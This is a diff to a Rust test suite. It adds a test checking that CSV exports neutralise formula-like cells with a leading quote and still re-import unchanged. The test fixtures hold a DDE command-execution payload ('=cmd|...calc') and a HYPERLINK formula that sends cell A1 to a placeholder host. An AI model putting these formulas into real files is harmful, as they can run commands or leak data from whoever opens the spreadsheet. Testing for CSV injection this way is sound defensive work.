@@ -1650,6 +1650,7 @@ async fn the_errors_kept_are_bounded(app: TestApp) {
 }
 
 on_both_backends!(
+    csv_exports_quote_formula_like_text,
     a_retired_list_and_measure_re_import_unchanged,
     an_expired_row_is_the_end_of_its_period,
     an_empty_measures_cell_keeps_the_recorded_measures,
@@ -2131,3 +2132,43 @@ async fn an_upload_past_the_request_timeout_runs_to_its_end(app: TestApp) {
 tests::on_both_backends_with!(
     an_upload_past_the_request_timeout_runs_to_its_end => short_request_timeout,
 );
+
+/// A text starting like a formula is written behind a `'` in every CSV export (the
+/// public list, listings), so a spreadsheet shows it instead of running it, and the
+/// listings export still re-imports unchanged.
+async fn csv_exports_quote_formula_like_text(app: TestApp) {
+    let who = actor(None);
+    let code = codes(1).remove(0);
+    let mut r = row(
+        &code,
+        "列-Q",
+        "2026-02-02",
+        "2026-02-12",
+        "2026-03-02",
+        "",
+        "",
+        "",
+    );
+    r[1] = "=cmd|' /C calc'!A0".into();
+    r[7] = "=HYPERLINK(\"https://x.example/?\"&A1,\"open\")".into();
+    let first = run(&app, "q.csv", csv_text(&[r]).as_bytes(), &who, |_| {}).await;
+    assert_eq!(first.created, 1, "{:?}", first.errors);
+    let public = app.get("/exports/public-list.csv").await;
+    assert_eq!(public.status(), 200);
+    let body = public.text().await.unwrap();
+    assert!(body.contains("'=cmd|"), "{body}");
+    assert!(
+        !body.contains(",=cmd|") && !body.contains("\"=cmd|"),
+        "{body}"
+    );
+    let exported = export_listings(&app).await;
+    let text = String::from_utf8(exported.clone()).unwrap();
+    assert!(text.contains("\"'=HYPERLINK("), "{text}");
+    let again = run(&app, "export.csv", &exported, &who, |_| {}).await;
+    assert_eq!(
+        (again.unchanged, again.updated, again.rejected),
+        (1, 0, 0),
+        "{:?}",
+        again.errors
+    );
+}
